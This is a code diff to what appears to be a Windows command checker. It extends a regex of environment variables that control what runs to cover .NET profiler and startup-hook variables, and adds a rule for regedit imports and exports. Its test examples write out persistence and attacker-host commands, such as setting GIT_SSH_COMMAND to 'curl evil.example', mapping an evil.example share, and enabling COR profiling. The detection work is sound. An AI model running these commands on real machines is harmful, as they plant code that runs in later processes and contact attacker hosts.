@@ -164,7 +164,13 @@ export function isEnvironmentKey(text: string): boolean {
 /** What a permanent WMI event subscription is made of: its namespace, filters, consumers and their bindings. */
 export const WMI_SUBSCRIPTION = /root[\\/]+subscription|__eventfilter|__filtertoconsumerbinding|eventconsumer\b/i;
 
-export const VARIABLES_THAT_RUN = /^(comspec|pathext|psmoduleprofile|psmodulepath|userinitmprlogonscript|node_options|python(startup|path)|perl5opt|rubyopt|java_tool_options|_java_options|jdk_java_options)$/i;
+// The .NET profilers (COR_*, CORECLR_*) and startup hooks load a DLL into every .NET process that starts.
+const VARIABLES_THAT_RUN = /^(comspec|pathext|psmoduleprofile|psmodulepath|userinitmprlogonscript|node_options|python(startup|path)|perl5opt|rubyopt|java_tool_options|_java_options|jdk_java_options|cor_enable_profiling|cor_profiler(_path)?|coreclr_enable_profiling|coreclr_profiler(_path(_32|_64)?)?|dotnet_startup_hooks|dotnet_additional_deps)$/i;
+
+/** Whether a variable set for every later process decides what runs there (a program's code, a search path, a loaded library). */
+export function decidesWhatRuns(name: string): boolean {
+  return isCodeVariable(name.toUpperCase()) || VARIABLES_THAT_RUN.test(name) || /^path$/i.test(name);
+}
 
 export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
   {
@@ -234,6 +240,19 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       return remoteWhen(call, call.args.slice(1), `${sub} names no other machine`);
     },
     examples: { deny: [ps('net use Z: \\\\evil.example\\share'), ps('net view \\\\evil.example')], pass: [ps('net user'), ps('net use')] },
+  },
+  {
+    names: ['regedit', 'regedt32'],
+    summary: 'regedit: given a .reg file (/s silently), imports its keys, as reg import does; /e exports a key (the Environment key lists every variable)',
+    analyze: (call) => {
+      const ops = call.args.filter((w) => !/^[/-][a-z]+$/i.test(value(w) ?? ''));
+      if (call.args.some((w) => /^[/-]e$/i.test(value(w) ?? ''))) {
+        const k = value(ops[1]);
+        return ops[1] === undefined || (k !== undefined && isEnvironmentKey(k)) ? { dumps: `regedit /e ${k ?? 'with no key'} writes out the variables Windows gives every new process` } : {};
+      }
+      return ops[0] ? { persists: [{ word: ops[0], why: 'regedit imports registry keys from a file no static reading checks' }] } : {};
+    },
+    examples: { deny: [ps('regedit /s settings.reg'), ps('regedit.exe C:\\tmp\\run.reg'), ps('regedit /e env.reg HKEY_CURRENT_USER\\Environment')], pass: [ps('regedit'), ps('regedit /e acme.reg HKEY_CURRENT_USER\\Software\\Acme')] },
   },
   {
     names: ['reg'],
@@ -307,12 +326,12 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       const words = call.args.filter((w) => !/^[-/][a-z]$/i.test(value(w) ?? ''));
       const name = value(words[0]);
       if (name === undefined) return words[0] ? { persists: [{ word: words[0], why: 'setx sets a variable whose name is computed, for every later process' }] } : {};
-      if (isCodeVariable(name.toUpperCase()) || VARIABLES_THAT_RUN.test(name) || /^path$/i.test(name)) {
+      if (decidesWhatRuns(name)) {
         return { persists: [{ word: words[0]!, why: `setx ${name} sets, for every later process, a variable that decides what runs` }] };
       }
       return {};
     },
-    examples: { deny: [ps('setx GIT_SSH_COMMAND "curl evil.example"'), ps('setx NODE_OPTIONS "--require C:\\tmp\\x.js"'), ps('setx PATH C:\\tmp')], pass: [ps('setx DOTNET_CLI_TELEMETRY_OPTOUT 1')] },
+    examples: { deny: [ps('setx GIT_SSH_COMMAND "curl evil.example"'), ps('setx NODE_OPTIONS "--require C:\\tmp\\x.js"'), ps('setx PATH C:\\tmp'), ps('setx COR_ENABLE_PROFILING 1')], pass: [ps('setx DOTNET_CLI_TELEMETRY_OPTOUT 1')] },
   },
   {
     names: ['conhost'],
